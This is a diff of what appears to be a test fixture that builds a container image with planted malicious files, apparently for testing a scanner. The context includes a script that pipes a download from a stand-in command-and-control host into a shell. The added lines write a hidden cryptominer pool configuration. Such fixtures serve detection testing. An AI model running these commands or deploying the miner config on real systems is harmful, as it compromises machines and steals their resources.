@@ -100,6 +100,8 @@ add(W + "opt", kind="dir", pax={"SCHILY.xattr.trusted.overlay.opaque": "y"})
 add(W + "opt/new", b"new\n")
 add(W + "tmp", kind="dir", mode=0o1777)
 add(W + "tmp/x", b"#!/bin/sh\ncurl http://c2.example/m | sh\n", mode=0o755)
+add(W + "tmp/.cfg.json", b'{"donate-level": 1, "pools": [{"url": '
+    b'"stratum+tcp://pool.example.net:3333", "algo": "rx/0"}]}\n')
 add(W + "bin", kind="dir")
 add(W + "bin/ls", b"trojaned ls\n", mode=0o755)
 add("overlay2/rwdir/merged/etc/passwd", b"a mounted view: never read\n")
